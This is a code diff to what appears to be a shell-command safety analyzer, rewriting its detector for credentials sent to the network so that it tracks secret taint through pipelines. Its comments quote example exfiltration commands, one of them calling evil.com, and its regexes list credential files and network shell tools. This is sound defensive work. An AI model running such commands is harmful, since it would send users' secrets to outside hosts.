@@ -1,46 +1,55 @@
-import { emit } from "./context.js";
-import type { SyntaxNode } from "./parse.js";
-import type { Walk } from "./walk.js";
+import { emit, type Invocation, type Stdin } from "./context.js";
+import { SECRET_FILE } from "./persistence.js";
+import type { Word } from "./words.js";
 
 /**
- * Secrets sent to the network on the same line: a pipeline stage that reads credentials feeding a
- * later stage that talks to another host (`env | nc host 4444`, `kubectl get secret x -o yaml |
- * curl -d @- …`), or a network command given them in a substitution (`dig $(cat ~/.ssh/id_rsa).x`).
- * What the receiver gets is access, for good.
+ * Secrets sent to the network on the same line: a stage that reads credentials feeding, through
+ * any pipeline, a command that talks to another host (`env | nc host 4444`, `kubectl get secret x
+ * -o yaml | curl -d @- …`), or a network command given them in a substitution
+ * (`dig $(cat ~/.ssh/id_rsa).evil.com`). Judged on the words bash hands the commands, so quoting
+ * and indirection change nothing. What the receiver gets is access, for good.
  */
-const SECRET_READ =
-  /(?:~|\$HOME|\$\{HOME\}|\/root|\/home\/[^/\s]+)\/\.(?:ssh\/id_|aws\/credentials|kube\/config|netrc|npmrc|pypirc|docker\/config\.json|git-credentials|gnupg|vault-token)|\/etc\/shadow|(?:^|[\s(`|;&])(?:printenv|env|export -p|declare -x)(?:\s*$|\s*[|>)`;&])|secretsmanager\s+get-secret-value|ssm\s+get-parameters?\b[^|]*--with-decryption|\bget\s+secrets?\b|vault\s+(?:kv\s+get|read)\b|\bop\s+(?:read|item\s+get)\b|(?:^|[\s@<])\.env(?:\.[\w.-]+)?(?:\s|$|["')])/;
+const SECRET_COMMAND =
+  /^(?:env|printenv)$|^(?:export -p|declare -x)$|secretsmanager get-secret-value|ssm get-parameters?\b.*--with-decryption|^kubectl (?:.* )?get (?:.* )?secrets?\b|^vault (?:kv get|read)\b|^op (?:read|item get)\b|^gh auth token|^(?:gcloud|az) .*(?:print-access-token|get-access-token|secrets versions access)/;
+const SECRET_TEXT =
+  /(?:~|\$HOME|\$\{HOME\}|\/root|\/home\/[^/\s]+)\/\.(?:ssh\/id_|aws\/credentials|kube\/config|netrc|npmrc|pypirc|docker\/config\.json|git-credentials|gnupg|vault-token)|\/etc\/shadow|(?:^|[\s(`|;&])(?:printenv|env)(?:\s*$|\s*[|>)`;&])|secretsmanager\s+get-secret-value|\bget\s+secrets?\b/;
 const NETWORK =
-  /^(?:\S*\/)?(?:curl|wget|nc|ncat|netcat|socat|telnet|dig|nslookup|host|ssh|scp|sftp|ftp|http|https|xh|openssl)$/;
+  /^(?:curl|wget|nc|ncat|netcat|socat|telnet|dig|nslookup|host|ssh|scp|sftp|ftp|http|https|xh|openssl)$/;
 
-function firstWord(node: SyntaxNode): string {
-  const text = node.text.trimStart();
-  return /^[^\s|;&()<>]+/.exec(text)?.[0] ?? "";
+/** Whether a command, as bash will run it, reads credentials. */
+export function readsSecrets(program: string, words: Word[]): boolean {
+  const line = [program, ...words.slice(1).map((w) => w.value)].join(" ");
+  if (
+    program === "env" &&
+    words.length > 1 &&
+    words.slice(1).some((w) => !w.value.includes("=") && !w.value.startsWith("-"))
+  )
+    return false;
+  return (
+    SECRET_COMMAND.test(line) ||
+    words.slice(1).some((w) => SECRET_FILE.test(w.value) || SECRET_TEXT.test(w.value))
+  );
 }
 
-function emitExfiltration(w: Walk, via: string, text: string): void {
-  emit(w, {
-    name: "send secrets",
-    effect: "privilege",
-    summary: `${via} sends credentials read on the same line to another host: ${text.slice(0, 80)}`,
-    reversibility: "irreversible",
-    blastRadius: "account",
-    tags: ["privilege-escalation", "exfiltration"],
-  });
+function unquoted(text: string): string {
+  return text.replace(/['"\\]/g, "");
 }
 
-/** A pipeline: any stage reading secrets before a stage that sends to the network. */
-export function pipelineExfiltration(node: SyntaxNode, w: Walk): void {
-  const stages = node.children.filter((c) => c.named);
-  const reads = stages.findIndex((s) => SECRET_READ.test(s.text));
-  if (reads < 0) return;
-  const sender = stages.slice(reads + 1).find((s) => NETWORK.test(firstWord(s)));
-  if (sender) emitExfiltration(w, firstWord(sender), node.text);
-}
-
-/** A network command whose own words read secrets (`dig $(cat ~/.ssh/id_rsa | base64).evil.com`). */
-export function commandExfiltration(node: SyntaxNode, w: Walk): void {
-  if (!NETWORK.test(firstWord(node))) return;
-  const args = node.text.slice(firstWord(node).length);
-  if (/\$\(|`/.test(args) && SECRET_READ.test(args)) emitExfiltration(w, firstWord(node), node.text);
+/** After a command ran: record a send, and carry the taint of secrets on to what it prints. */
+export function followSecrets(inv: Invocation, words: Word[], stdin: Stdin, stdout: Stdin): Stdin {
+  const tainted = stdin.kind === "pipe" && stdin.secret === true;
+  const secret = tainted || readsSecrets(inv.program, words);
+  if (NETWORK.test(inv.program)) {
+    const substituted = words.some((w) => w.substitutions.some((s) => SECRET_TEXT.test(unquoted(s.text))));
+    if (tainted || substituted)
+      emit(inv, {
+        name: "send secrets",
+        effect: "privilege",
+        summary: `${inv.program} sends credentials read on the same line to another host`,
+        reversibility: "irreversible",
+        blastRadius: "account",
+        tags: ["privilege-escalation", "exfiltration"],
+      });
+  }
+  return secret && stdout.kind === "pipe" ? { ...stdout, secret: true } : stdout;
 }
